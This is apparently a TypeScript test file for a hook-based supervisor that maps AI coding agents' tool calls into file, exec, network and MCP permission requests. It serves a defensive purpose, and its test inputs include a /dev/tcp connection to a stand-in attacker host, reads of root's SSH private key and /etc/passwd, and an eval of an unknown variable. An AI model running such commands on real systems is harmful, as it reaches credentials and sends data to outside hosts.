import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ADAPTERS, evaluateEvent, type Harness, planRequests } from '../../src/supervisor/hooks/index.ts';
import { toolEvent } from './hooks-support.ts';

// Harness tools to decision requests, in process: which action and resource each tool becomes,
// with paths resolved against cwd and normalized. The end-to-end tests run the same through the
// real process and PDP.

const HOME = '/home/agent';

function plan(
  harness: Harness,
  event: string,
  tool: string,
  input: unknown,
  extra: Record<string, unknown> = {},
) {
  const parsed = ADAPTERS[harness].parse(toolEvent(harness, event, tool, input, extra), HOME);
  const result = planRequests(parsed, { home: HOME });
  return result.ok ? result.requests.map((r) => r.request) : result.message;
}

describe('hook tool mapping', () => {
  it('Claude Code file tools become read_file / write_file with canonical paths', () => {
    assert.deepEqual(plan('claude-code', 'PreToolUse', 'Read', { file_path: '/workspace/a/../b/./c.txt' }), [
      { action: 'read_file', path: '/workspace/b/c.txt' },
    ]);
    assert.deepEqual(plan('claude-code', 'PreToolUse', 'Write', { file_path: 'src//x.ts', content: '' }), [
      { action: 'write_file', path: '/workspace/src/x.ts' },
    ]);
    assert.deepEqual(plan('claude-code', 'PreToolUse', 'Edit', { file_path: '~/notes.md' }), [
      { action: 'write_file', path: '/home/agent/notes.md' },
    ]);
    assert.deepEqual(plan('claude-code', 'PreToolUse', 'Grep', { pattern: 'TODO' }), [
      { action: 'read_file', path: '/workspace' },
    ]);
    assert.deepEqual(plan('claude-code', 'PreToolUse', 'Glob', { pattern: '/etc/**/*.conf' }), [
      { action: 'read_file', path: '/etc' },
    ]);
    assert.deepEqual(plan('claude-code', 'PreToolUse', 'LS', { path: '/workspace/' }), [
      { action: 'read_file', path: '/workspace' },
    ]);
    assert.match(
      plan('claude-code', 'PreToolUse', 'Read', { file_path: '~root/.ssh/id_rsa' }) as string,
      /not a usable path/,
    );
    assert.match(
      plan('claude-code', 'PreToolUse', 'Write', { content: 'x' }) as string,
      /Write without file_path/,
    );
    assert.match(
      plan('claude-code', 'PreToolUse', 'Read', { file_path: 'a\u0000b' }) as string,
      /not a usable path/,
    );
  });

  it('Claude Code Bash becomes exec, write_file and connect requests', () => {
    assert.deepEqual(
      plan('claude-code', 'PreToolUse', 'Bash', { command: 'cat < /dev/tcp/evil.example/80 > out' }),
      [
        { action: 'exec', argv: ['cat'] },
        { action: 'write_file', path: '/workspace/out' },
        { action: 'connect', host: 'evil.example', port: 80 },
      ],
    );
  });

  it('WebFetch becomes a GET http_request; other schemes are refused', () => {
    assert.deepEqual(
      plan('claude-code', 'PreToolUse', 'WebFetch', { url: 'https://api.github.com/a?b=1', prompt: 'p' }),
      [{ action: 'http_request', method: 'GET', url: 'https://api.github.com/a?b=1' }],
    );
    assert.match(
      plan('claude-code', 'PreToolUse', 'WebFetch', { url: 'file:///etc/passwd' }) as string,
      /file: URLs are not fetched/,
    );
  });

  it('MCP tools become mcp_call with server, tool and arguments', () => {
    assert.deepEqual(plan('claude-code', 'PreToolUse', 'mcp__github__get_pull_request', { pull_number: 1 }), [
      { action: 'mcp_call', server: 'github', tool: 'get_pull_request', arguments: { pull_number: 1 } },
    ]);
    assert.deepEqual(
      plan('claude-code', 'PreToolUse', 'ReadMcpResourceTool', { server: 'wiki', uri: 'wiki://a' }),
      [{ action: 'mcp_call', server: 'wiki', tool: 'resources/read', arguments: { uri: 'wiki://a' } }],
    );
  });

  it('Codex apply_patch in either form, and the shell tool with workdir', () => {
    assert.deepEqual(
      plan('codex', 'PreToolUse', 'apply_patch', {
        command:
          '*** Begin Patch\n*** Delete File: old.ts\n*** Update File: a.ts\n*** Move to: b/a.ts\n*** End Patch',
      }),
      [
        { action: 'write_file', path: '/workspace/old.ts' },
        { action: 'write_file', path: '/workspace/a.ts' },
        { action: 'write_file', path: '/workspace/b/a.ts' },
      ],
    );
    assert.deepEqual(
      plan('codex', 'PreToolUse', 'apply_patch', { '/workspace/x.ts': { type: 'add', content: 'x' } }),
      [{ action: 'write_file', path: '/workspace/x.ts' }],
    );
    assert.deepEqual(plan('codex', 'PreToolUse', 'exec_command', { cmd: 'ls > l', workdir: '/tmp' }), [
      { action: 'exec', argv: ['ls'] },
      { action: 'write_file', path: '/tmp/l' },
    ]);
  });

  it('Gemini tools: relative paths, read_many_files roots, save_memory', () => {
    assert.deepEqual(plan('gemini', 'BeforeTool', 'read_file', { file_path: 'README.md' }), [
      { action: 'read_file', path: '/workspace/README.md' },
    ]);
    assert.deepEqual(
      plan('gemini', 'BeforeTool', 'read_many_files', { include: ['src/**/*.ts', '../secrets/*'] }),
      [
        { action: 'read_file', path: '/workspace/src' },
        { action: 'read_file', path: '/secrets' },
      ],
    );
    assert.deepEqual(plan('gemini', 'BeforeTool', 'list_directory', { dir_path: '..' }), [
      { action: 'read_file', path: '/' },
    ]);
    assert.deepEqual(plan('gemini', 'BeforeTool', 'save_memory', { fact: 'x' }), [
      { action: 'write_file', path: '/home/agent/.gemini/GEMINI.md' },
    ]);
    assert.match(
      plan('gemini', 'BeforeTool', 'web_fetch', { prompt: 'no links here' }) as string,
      /names no http\(s\) URL/,
    );
  });

  it('unverifiable commands ask where the harness can, when configured; Codex still denies', async () => {
    const event = (harness: Harness, name: string, tool: string) =>
      ADAPTERS[harness].parse(toolEvent(harness, name, tool, { command: 'eval "$X"' }), HOME);
    const decide = () => ({ decision: 'allow' as const, policyIds: [], reason: 'x' });
    const ask = { home: HOME, onUnverifiable: 'ask' as const };
    assert.equal(
      (await evaluateEvent(event('claude-code', 'PreToolUse', 'Bash'), decide, ask)).outcome,
      'ask',
    );
    assert.equal(
      (await evaluateEvent(event('gemini', 'BeforeTool', 'run_shell_command'), decide, ask)).outcome,
      'ask',
    );
    assert.equal((await evaluateEvent(event('codex', 'PreToolUse', 'Bash'), decide, ask)).outcome, 'deny');
    assert.equal(
      (await evaluateEvent(event('claude-code', 'PreToolUse', 'Bash'), decide, { home: HOME })).outcome,
      'deny',
    );
    const answer = ADAPTERS['claude-code'].answer(event('claude-code', 'PreToolUse', 'Bash'), {
      outcome: 'ask',
      message: 'm',
      policyIds: [],
      reviewIds: [],
    });
    assert.equal(JSON.parse(answer.stdout).hookSpecificOutput.permissionDecision, 'ask');
  });

  it('dynamicArguments: deny makes run-time words unverifiable', () => {
    const event = ADAPTERS['claude-code'].parse(
      toolEvent('claude-code', 'PreToolUse', 'Bash', { command: 'git "$SUB" origin' }),
      HOME,
    );
    assert.equal(planRequests(event, { home: HOME }).ok, true);
    const strict = planRequests(event, { home: HOME, dynamicArguments: 'deny' });
    assert.equal(strict.ok, false);
    assert.match(strict.ok ? '' : strict.message, /the argument "\$SUB" is only known at run time/);
  });
});
